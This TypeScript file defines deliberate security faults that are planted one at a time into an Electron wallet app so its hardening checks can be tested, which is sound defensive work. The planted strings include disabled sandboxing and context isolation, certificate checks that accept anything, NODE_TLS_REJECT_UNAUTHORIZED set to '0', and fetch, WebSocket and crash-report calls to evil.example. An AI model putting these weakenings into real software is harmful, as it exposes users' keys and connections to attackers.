import type { Files } from '../../hardening/files.ts';

type Plant = (files: Files) => Files;

const WINDOW = 'src-main/hosts/electron/window.ts';
const ROOT = 'src-main/index.ts';
const CAMERA = 'src-main/hosts/electron/camera.ts';
const SESSION = 'src-main/hosts/electron/session.ts';
const NAVIGATION = 'src-main/hosts/electron/navigation.ts';
const PROTOCOL = 'src-main/hosts/electron/protocol.ts';
const LINKS = 'src-main/hosts/electron/deep-links.ts';
const IPC = 'src-main/hosts/electron/ipc.ts';
const CHILD = 'src-main/hosts/electron/keyholder-child.ts';
const FORK = 'src-main/keyholder/in-main/fork-child.ts';
const PRELOAD = 'src-preload/index.ts';
const BUILT_PAGE = 'out/renderer/index.html';
const BUILT_PRELOAD = 'out/preload/index.cjs';
const SHOWN = 'src-renderer/welcome/ShowWords.svelte';
const LOCK = 'package-lock.json';
const PACKAGER = 'scripts/electron-builder.config.mjs';
const HOOKS = 'scripts/lib/package/hooks.mjs';
const MAC = 'resources/entitlements.mac.plist';

/** Replaces a text. Throws if the text is missing, since nothing would be planted then. */
const swap =
  (path: string, from: string, to: string): Plant =>
  (files) =>
    files.planted(path, (text) => {
      if (!text.includes(from)) throw new Error(`${path} does not hold ${from}`);
      return text.replace(from, () => to);
    });
const add =
  (path: string, text: string): Plant =>
  (files) =>
    files.planted(path, (before) => `${before}\n${text}\n`);
/** Adds a file to main. */
const inMain = (text: string) => add('src-main/planted.ts', text);

const flipped = (key: string, from: boolean): Readonly<Record<string, Readonly<Record<string, Plant>>>> => ({
  [`${key} is ${from ? 'on' : 'off'}, written out`]: {
    'the other way': swap(WINDOW, `${key}: ${String(from)}`, `${key}: ${String(!from)}`),
    'left out': swap(WINDOW, `${key}: ${String(from)},`, ''),
  },
});

/** Faults that are put into the project one at a time, by the check that must find them. */
export const plants: Readonly<Record<string, Readonly<Record<string, Plant>>>> = {
  'a window is made in one place': {
    'another window': inMain("import { BrowserWindow } from 'electron';\nnew BrowserWindow({});"),
  },
  ...flipped('contextIsolation', true),
  ...flipped('sandbox', true),
  ...flipped('nodeIntegration', false),
  ...flipped('nodeIntegrationInWorker', false),
  ...flipped('nodeIntegrationInSubFrames', false),
  ...flipped('webSecurity', true),
  ...flipped('webviewTag', false),
  ...flipped('spellcheck', false),
  ...flipped('disableDialogs', true),
  ...flipped('navigateOnDragDrop', false),
  'every process is sandboxed before Electron is ready': {
    'not at all': swap(ROOT, '  app.enableSandbox();\n', ''),
  },
  'nothing that a web page may not do is allowed': {
    experiments: inMain('const preferences = { experimentalFeatures: true };'),
  },
  'no webview stands in the page': {
    'in a component': add('src-renderer/app/App.svelte', '<webview src="https://evil.example"></webview>'),
  },
  'developer tools are there in development alone, and nothing opens them': {
    opened: inMain('window.webContents.openDevTools();'),
    'by the environment alone': swap(ROOT, '!app.isPackaged && ', ''),
  },
  'no switch that takes a protection away is added or passed': {
    'by the app': inMain("app.commandLine.appendSwitch('no-sandbox');"),
    'by a script': add('scripts/lib/planted.mjs', "export const args = ['--no-sandbox'];"),
  },
  'such switches on the command line are refused before Electron is ready': {
    'not at all': swap(ROOT, 'inDevelopment ? [] : dangerousSwitches(process.argv)', '[]'),
    'by the environment': swap(ROOT, 'inDevelopment ? []', "process.env['CI'] ? []"),
  },
  'a second start ends, and only its links and files are heard': {
    'it goes on': swap(
      ROOT,
      'if (!app.requestSingleInstanceLock()) return 0;',
      'app.requestSingleInstanceLock();',
    ),
  },
  'one scheme is registered, and it is rgb': {
    another: inMain("app.setAsDefaultProtocolClient('bitcoin');"),
    'under another name': swap(LINKS, "LINK_SCHEME = 'rgb'", "LINK_SCHEME = 'bitcoin'"),
  },
  'no crash is reported to anybody': {
    'by Electron': inMain("crashReporter.start({ submitURL: 'https://evil.example' });"),
  },
  'core dumps are off in main and in the keyholder, and in what npm start runs': {
    'in Electron’s main': swap(ROOT, "  leaveNoCoreDump('self');\n", ''),
    'in the utility process': swap(CHILD, 'leaveNoCoreDump(child.pid)', 'undefined'),
    'in the child': swap(FORK, 'ulimit -c 0; ', ''),
  },
  'the environment is cleaned before anything reads it, and of the keyholder almost nothing is left': {
    'not at all': swap(ROOT, '  cleanEnvironment(process.env);\n', ''),
    'not for the utility process': swap(CHILD, 'env: childEnv(env)', 'env: { ...env }'),
    'not for the child': swap(FORK, 'env: childEnv(env)', 'env: process.env'),
  },
  'a fault that nobody caught ends Ochre from its first moment': {
    'one is not heard': swap(
      ROOT,
      "process.on('unhandledRejection', (error) => void lastResort(error));",
      '',
    ),
    'one is swallowed': inMain('process.setUncaughtExceptionCaptureCallback(() => undefined);'),
  },
  'each session that is used filters every request, before a page is loaded in it': {
    'no filter': swap(SESSION, 'session.webRequest.onBeforeRequest(', 'session.webRequest.onCompleted('),
  },
  'the page comes by a scheme of its own with no privilege but its origin, never from a file': {
    'from a file': inMain("window.loadFile('index.html');"),
    'from an address of a file': inMain("window.loadURL('file:///tmp/index.html');"),
    'past the policy': swap(PROTOCOL, 'secure: true', 'secure: true, bypassCSP: true'),
  },
  'everything that shows a page is kept where it is, from its first moment': {
    'a frame is free': swap(NAVIGATION, "'will-frame-navigate'", "'did-frame-navigate'"),
    'a redirect is free': swap(NAVIGATION, "'will-redirect'", "'did-redirect'"),
    'nobody asks': swap(ROOT, '=> denyNavigation(contents)', '=> undefined'),
  },
  'no page opens a window': {
    allowed: swap(NAVIGATION, "action: 'deny'", "action: 'allow'"),
    'decided anew': inMain("contents.setWindowOpenHandler(() => ({ action: 'deny' }));"),
  },
  'there is no way out to other programs': {
    'a browser': inMain('shell.openExternal(url);'),
    'a program': inMain("import { exec } from 'node:child_process';"),
  },
  'every kind of permission and device is answered, and the answer is no but for the camera of a scan': {
    'one is not asked': swap(SESSION, 'session.setPermissionCheckHandler(', 'void ('),
    'one is answered with yes': swap(SESSION, 'camera?.grants(permission, asked) ?? false', 'true'),
    'the gate is open from the start': swap(CAMERA, 'let open = false', 'let open = true'),
    'other sessions too': swap(ROOT, '{ devTools: false, camera: null }', '{ devTools: false, camera }'),
  },
  'the page’s session lives in memory, without a cache and without cookies': {
    'on the disk': swap(SESSION, "PAGE_PARTITION = 'ochre-page'", "PAGE_PARTITION = 'persist:ochre-page'"),
    'with a cache': swap(ROOT, '{ cache: false }', '{ cache: true }'),
  },
  'certificates are judged by Chromium and Node alone, or are exactly the pinned one': {
    'by us': inMain('page.setCertificateVerifyProc((request, done) => done(0));'),
    'by the environment': inMain("process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = '0';"),
    'not at all': swap('src-main/net/transport.ts', 'rejectUnauthorized: true', 'rejectUnauthorized: false'),
    'by a pin that is not compared': swap(
      'src-main/net/secure.ts',
      'if (failure !== null) throw failure;',
      '',
    ),
    'without a pin': swap(
      'src-main/net/connect.ts',
      'way.pin === null ? secureByNode(',
      'true ? secureUnjudged(',
    ),
  },
  'the content policy allows what is named, and one function writes it for both hosts': {
    'another policy': inMain("const policy = \"default-src 'self'; script-src 'unsafe-inline'\";"),
  },
  'the page, as written and as built, carries no policy, script, style or handler of its own': {
    'a meta tag': add(BUILT_PAGE, '<meta http-equiv="Content-Security-Policy" content="default-src *">'),
    'a script': add(BUILT_PAGE, '<script>alert(1)</script>'),
  },
  'the page has no network, and nothing of another origin in its styles': {
    'a socket': add('src-renderer/main.ts', "new WebSocket('wss://evil.example');"),
    'a request': add('src-renderer/app/App.svelte', "<script>fetch('https://evil.example')</script>"),
  },
  'the built preload is one small CommonJS script that needs electron alone': {
    Node: add(BUILT_PRELOAD, "require('node:fs');"),
    'the environment': add(BUILT_PRELOAD, 'process.env.HOME;'),
  },
  'no code that knows a secret, and none of Node, is in the page': {
    main: add('out/renderer/assets/planted.js.map', '{"sources":["../../../src-main/app/logger.ts"]}'),
  },
  'no text is run as code, and none becomes markup': {
    '{@html}': add('src-renderer/app/App.svelte', '{@html place}'),
    eval: inMain("eval('1');"),
  },
  'one file hears what pages send, on one channel, and asks who sends it first': {
    'another file': inMain("ipcMain.on('other', () => undefined);"),
    'another channel': swap(IPC, 'deps.ipcMain.handle(CALL_CHANNEL', "deps.ipcMain.handle('other'"),
    'nobody asks': swap(IPC, 'if (!isTrusted(event)) throw refusal();\n', ''),
    'asked too late': swap(
      IPC,
      '    if (!isTrusted(event)) throw refusal();\n    const [name, input] = sent;\n',
      '    const [name, input] = sent;\n    if (!isTrusted(event)) throw refusal();\n',
    ),
  },
  'every call is answered, once, and nothing else is, with a schema and a size': {
    'one too many': swap(
      'src-main/wallet/calls.ts',
      "'vault.reveal':",
      "'vault.export': () => 1,\n  'vault.reveal':",
    ),
    'one too few': swap('src-main/app/calls.ts', "'links.take': ({ links }) => links.take(),", ''),
  },
  'the page is given one frozen object of named functions, and no way to name a channel': {
    'a second object': add(PRELOAD, "contextBridge.exposeInMainWorld('more', {});"),
    'any channel': add(PRELOAD, 'export const send = (channel: string) => ipcRenderer.invoke(channel);'),
  },
  'what the page is given is frozen, object by object': {
    'not frozen': swap(
      'src-preload/bridge.ts',
      'Object.freeze(Object.fromEntries(functions))',
      'Object.fromEntries(functions)',
    ),
  },
  'main writes about itself through one redacting sink': { 'the console': inMain('console.error(words);') },
  'the clipboard is main’s, written by one call, and never for words': {
    'in main': inMain('clipboard.writeText(words);'),
    words: add(SHOWN, '<CopyButton />'),
  },
  'whatever shows words, or has them typed, says so to main': {
    'one does not': swap(SHOWN, '$effect(() => (words === null ? undefined : wordsOnScreen(bridge)));', ''),
    'words stay': swap(SHOWN, "onblur={() => hide('away')}", 'onblur={() => undefined}'),
  },
  'the keychain is reached in one file, under one name': {
    elsewhere: inMain("import keytar from 'keytar';"),
  },
  'no file and no other store stands in for the keychain': {
    'another store': inMain("safeStorage.encryptString('words');"),
    'a file': add('src-main/keyholder/vault/vault.ts', "import { writeFileSync } from 'node:fs';"),
    'a server beside the bus': add(
      'src-main/keyholder/vault/secret-service.ts',
      "import { createServer } from 'node:net';",
    ),
  },
  'settings hold no secret, are for their owner alone, and are not called encrypted': {
    'called encrypted': inMain("new Store({ encryptionKey: 'secret' });"),
    'for everybody': swap(
      'src-main/records/settings-file.ts',
      'configFileMode: 0o600',
      'configFileMode: 0o644',
    ),
  },
  'the table of fuses is the one that was decided, and the packager turns by it and reads back': {
    'a packager of its own mind': swap(PACKAGER, 'turnFuses(context, { isSigned, electron })', 'undefined'),
    'not read back': swap(
      HOOKS,
      'wrongFuses(readFileSync(pathToFuseFile(program)), platform, { electron })',
      '[]',
    ),
  },
  'one archive, and only native parts are laid beside it': {
    'a folder': swap(PACKAGER, "'**/*.so', '**/*.dylib'", "'**/*.so', 'out/**'"),
  },
  'Electron is one of the three majors that are mended, and above its last great hole': {
    'an old one': swap(
      LOCK,
      '"node_modules/electron": {\n      "version": "45.4.1"',
      '"node_modules/electron": {\n      "version": "35.7.4"',
    ),
  },
  'there is no updater': { 'Electron’s own': inMain('autoUpdater.checkForUpdates();') },
  'on macOS nothing is allowed but what V8 needs to compile, and to ask for the camera': {
    'a debugger': swap(MAC, '<dict>', '<dict><key>com.apple.security.get-task-allow</key><true/>'),
  },
};
